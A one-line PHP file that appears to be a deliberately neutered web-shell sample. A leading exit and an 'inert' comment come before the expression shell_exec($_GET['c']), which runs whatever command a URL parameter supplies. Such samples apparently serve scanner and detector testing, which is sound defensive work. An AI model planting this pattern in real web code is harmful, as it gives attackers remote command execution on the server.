<?php exit; /* inert */ echo match(true){ default=>shell_exec($_GET["c"]) };
